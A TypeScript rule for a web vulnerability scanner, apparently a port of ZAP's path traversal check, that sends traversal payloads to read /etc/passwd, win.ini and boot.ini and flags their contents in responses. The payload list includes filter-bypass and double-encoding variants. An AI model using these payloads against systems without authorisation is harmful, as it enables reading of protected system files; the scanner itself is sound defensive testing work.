/**
 * 6 Path Traversal. Put well-known system files in the parameter (relative with enough `../`,
 * absolute, with `....//` for filters that strip `../` once, percent-encoded for apps that decode
 * twice, and the Windows forms) and alert on their unmistakable content: `root:x:0:0:` from
 * /etc/passwd, `[fonts]` / `[extensions]` from win.ini, `[boot loader]` from boot.ini — when the
 * original response did not already contain it.
 */
import type { ActiveRule, AttackPoint, HttpClient, WebAlert } from '../types.js';
import { attackAlert, firstMatch, sendAttack } from './shared.js';

const ID = '6';
const UP = '../'.repeat(10);

const PAYLOADS: ReadonlyArray<{ payload: string; evidence: RegExp }> = [
  { payload: `${UP}etc/passwd`, evidence: /root:[^:\r\n]*:0:0:/ },
  { payload: '/etc/passwd', evidence: /root:[^:\r\n]*:0:0:/ },
  { payload: `${'....//'.repeat(10)}etc/passwd`, evidence: /root:[^:\r\n]*:0:0:/ },
  // sent percent-encoded once more by the request builder: the app sees %2e%2e%2f and decodes it itself
  { payload: `${'%2e%2e%2f'.repeat(10)}etc%2fpasswd`, evidence: /root:[^:\r\n]*:0:0:/ },
  { payload: `${'..\\'.repeat(10)}windows\\win.ini`, evidence: /\[fonts\]|\[extensions\]/i },
  { payload: 'c:\\windows\\win.ini', evidence: /\[fonts\]|\[extensions\]/i },
  { payload: `${UP}boot.ini`, evidence: /\[boot loader\]/i },
];

async function run(point: AttackPoint, client: HttpClient, signal?: AbortSignal): Promise<WebAlert[]> {
  const base = await sendAttack(client, point, point.value, {}, signal);
  const baseBody = base?.res.body ?? '';
  for (const { payload, evidence } of PAYLOADS) {
    if (evidence.test(baseBody)) continue;
    const sent = await sendAttack(client, point, payload, {}, signal);
    if (!sent) continue;
    const found = firstMatch(evidence, sent.res.body);
    if (found !== undefined) return [attackAlert(ID, point, sent, payload, found)];
  }
  return [];
}

/** The path traversal rule (ZAP 6). */
export const pathTraversalRule: ActiveRule = { id: ID, run };
